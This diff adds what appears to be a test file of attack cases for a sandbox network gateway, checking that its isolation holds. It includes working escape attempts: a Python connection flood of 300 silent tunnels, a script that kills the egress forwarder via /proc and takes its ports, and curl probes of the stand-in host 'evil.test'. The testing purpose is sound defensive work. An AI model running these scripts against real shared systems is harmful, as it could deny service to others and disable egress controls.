@@ -1,0 +1,216 @@
+import type { AttackCase, Observation } from "../attack-case.ts";
+import type { Lab } from "../lab/lab.ts";
+import { labSpec } from "../lab/lab.ts";
+import { newScene } from "../lab/scene.ts";
+import { sandboxTarget, type Target } from "../lab/target.ts";
+import { python } from "./network-attack.ts";
+
+/** More than the limit of connections that a gateway holds at once. */
+const floodSize = 300;
+const connectionLimit = 256;
+
+/** Opens many tunnels and says nothing in them; prints how many were granted. */
+async function flood(target: Target): Promise<Observation> {
+  const [host, port] = target.proxy.split(":");
+  const { stdout } = await target.run(
+    python(`import socket
+held = []
+granted = 0
+for number in range(${floodSize}):
+    one = socket.create_connection(("${host}", ${port}), 20)
+    one.settimeout(5)
+    one.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
+    held.append(one)
+for one in held:
+    try:
+        granted += b" 200 " in one.recv(100)
+    except OSError:
+        pass
+print(granted)`),
+  );
+  const granted = Number(stdout);
+  const succeeded = !(granted > 0 && granted <= connectionLimit);
+  return { succeeded, seen: succeeded ? `all ${granted} tunnels were granted` : "tunnels were granted up to the limit" };
+}
+
+/** Whether a request for a host arrives. */
+async function arrives(lab: Lab, target: Target, host: string): Promise<boolean> {
+  const { token } = newScene();
+  await target.run(["curl", "-s", "-m", "10", "-o", "/dev/null", `http://${host}/${token}`]);
+  return (await lab.arrivals()).some((seen) => seen.kind === "request" && seen.target.includes(token));
+}
+
+/** A listener on the gateway's port, in the same sandbox, and the code that tries to get rid of it. */
+const endForwarder = python(`import os, signal, socket, time
+killed = False
+for name in os.listdir("/proc"):
+    if name.isdigit() and int(name) not in (1, os.getpid()):
+        try:
+            line = open(f"/proc/{name}/cmdline").read()
+            if "3128" in line and "killed = " not in line:
+                os.kill(int(name), signal.SIGKILL)
+                killed = True
+        except OSError:
+            pass
+time.sleep(0.2)
+taken = False
+for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+    for port in (3128, 80, 443, 53):
+        one = socket.socket(socket.AF_INET, kind)
+        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+        try:
+            one.bind(("127.0.0.1", port))
+            taken = taken or (kind == socket.SOCK_STREAM and port == 3128)
+        except OSError:
+            pass
+print(killed or taken)`);
+
+/** What happens to the way out while a sandbox lives. */
+export const liveCases: readonly AttackCase[] = [
+  {
+    name: "connection-flood",
+    attack: 48,
+    title: "Hundreds of tunnels that stay silent; another sandbox is not affected",
+    protection: "a limit of connections for each sandbox",
+    runtimes: ["docker"],
+    off: async (lab) => await flood(await lab.unprotected()),
+    async on(lab, runtime) {
+      const { client } = await lab.shared(runtime);
+      await using flooder = await client.create(labSpec(runtime, { egress: ["allowed.test"], openFiles: 1024 }));
+      const other = sandboxTarget(await lab.sandbox(runtime, "allowing"), "docker");
+      const flooding = flood(sandboxTarget(flooder, "docker"));
+      const isOtherServed = await arrives(lab, other, "allowed.test");
+      const seen = await flooding;
+      return isOtherServed ? seen : { succeeded: true, seen: "another sandbox was cut off" };
+    },
+  },
+  {
+    name: "end-the-forwarder",
+    attack: 50,
+    title: "Ending the forwarder from inside, and taking its ports",
+    protection: "the forwarder runs in a container of its own",
+    runtimes: ["docker"],
+    async off(lab) {
+      const container = await lab.container({}, {});
+      await container.run(["sh", "-c", "python3 -m http.server 3128 --bind 127.0.0.1 >/dev/null 2>&1 & sleep 1"]);
+      const { stdout } = await container.run(endForwarder);
+      return { succeeded: stdout.trim() === "True", seen: "a forwarder in the same container was ended" };
+    },
+    async on(lab, runtime) {
+      const { client } = await lab.shared(runtime);
+      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test"] }));
+      const target = sandboxTarget(sandbox, "docker");
+      const { stdout } = await target.run(endForwarder);
+      const isServed = await arrives(lab, target, "allowed.test");
+      const isOpen = await arrives(lab, target, "evil.test");
+      const succeeded = stdout.trim() !== "False" || !isServed || isOpen;
+      return { succeeded, seen: succeeded ? "the forwarder was ended" : "it cannot be seen, and its ports are taken" };
+    },
+  },
+  {
+    name: "tightened-rules",
+    attack: 51,
+    title: "Going on with a host after it was taken from the rules, also in an open tunnel",
+    protection: "open connections are judged again",
+    runtimes: ["docker", "embedded"],
+    off: async (lab) => ({
+      succeeded: await arrives(lab, await lab.unprotected(), "allowed.test"),
+      seen: "the host is reached as before",
+    }),
+    async on(lab, runtime) {
+      const { client } = await lab.shared(runtime);
+      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test", "api.test"] }));
+      const target = sandboxTarget(sandbox, runtime);
+      if (!(await arrives(lab, target, "allowed.test"))) throw new Error("the host was not reached before");
+      let isTunnelClosed = Promise.resolve(true);
+      if (runtime === "docker") {
+        const holding = await sandbox.spawn("python3", [
+          "-c",
+          `import socket
+one = socket.create_connection(("127.0.0.1", 3128))
+one.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
+print(one.recv(100), flush=True)
+print("closed" if one.recv(100) == b"" else "open")`,
+        ]);
+        const output = holding.output[Symbol.asyncIterator]();
+        await output.next();
+        isTunnelClosed = (async () => {
+          let text = "";
+          for (let next = await output.next(); next.done !== true; next = await output.next())
+            text += String((next.value as { data: unknown }).data);
+          await holding.wait();
+          return !text.includes("open");
+        })();
+      }
+      await sandbox.narrowEgress(["api.test"]);
+      const stillOpen = (await arrives(lab, target, "allowed.test")) || !(await isTunnelClosed);
+      const kept = await arrives(lab, target, "api.test");
+      return { succeeded: stillOpen || !kept, seen: stillOpen ? "the host is reached as before" : "nothing arrived; 403" };
+    },
+  },
+  {
+    name: "rules-after-restart",
+    attack: 52,
+    title: "A way out left open by stopping and starting the sandbox",
+    protection: "the gateway belongs to the sandbox, not to its run",
+    runtimes: ["docker", "embedded"],
+    off: async (lab) => ({
+      succeeded: await arrives(lab, await lab.unprotected(), "evil.test"),
+      seen: "the unlisted host is reached",
+    }),
+    async on(lab, runtime) {
+      const { client } = await lab.shared(runtime);
+      await using sandbox = await client.create(labSpec(runtime, { egress: ["allowed.test"] }));
+      await sandbox.stop();
+      await sandbox.start();
+      const target = sandboxTarget(sandbox, runtime);
+      const isOpen = await arrives(lab, target, "evil.test");
+      const isServed = await arrives(lab, target, "allowed.test");
+      const succeeded = isOpen || !isServed;
+      return { succeeded, seen: succeeded ? "the rules were lost" : "nothing arrived; the listed host is reached" };
+    },
+  },
+  {
+    name: "neighbour",
+    attack: 29,
+    title: "A server in a neighbour's sandbox, by its name and addresses",
+    protection: "each sandbox has a network namespace of its own",
+    runtimes: ["docker"],
+    async off(lab) {
+      const [one, other] = [await lab.unprotected(), await lab.container({}, {})];
+      const { address } = lab.internet.join(other.pid);
+      await other.run(["sh", "-c", "python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1"]);
+      const { stdout } = await one.run(["curl", "-s", "-m", "5", "-w", "%{http_code}", "-o", "/dev/null", `http://${address}:8000/`]);
+      return { succeeded: stdout === "200", seen: "the neighbour's server answered" };
+    },
+    async on(lab, runtime) {
+      const { client } = await lab.shared(runtime);
+      await using other = await client.create(labSpec(runtime, { egress: ["allowed.test"] }));
+      await other.shell("setsid python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1");
+      const one = sandboxTarget(await lab.sandbox(runtime, "allowing"), runtime);
+      const hosts = [other.name, `${other.name}.local`, "127.0.0.1", "127.64.0.1", lab.address];
+      const calls = hosts.map((host) => `curl -s -m 5 --noproxy '*' -w '%{http_code} ' -o /dev/null http://${host}:8000/`);
+      const { stdout } = await one.run(["sh", "-c", `${calls.join(";")}; true`]);
+      const own = await other.shell("curl -s --noproxy '*' -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/");
+      if (own.stdout !== "200") throw new Error(`the neighbour's server does not run: ${own.output}`);
+      return { succeeded: stdout.includes("200"), seen: "no such host, nothing listens" };
+    },
+  },
+  {
+    name: "unenforceable",
+    attack: 53,
+    title: "A request or a policy that the runtime cannot enforce",
+    protection: "it is refused, never weakened",
+    runtimes: ["docker", "embedded"],
+    off: "a runtime that drops what it cannot enforce is not among ours",
+    async on(lab, runtime) {
+      const fields = runtime === "docker" ? { ports: [8000] } : { limits: { pids: 10 } };
+      const error = await lab.client(runtime, fields).then(
+        () => undefined,
+        (caught: { readonly code?: string }) => caught.code ?? "no code",
+      );
+      return { succeeded: error === undefined, seen: `connecting is refused: ${error}` };
+    },
+  },
+];
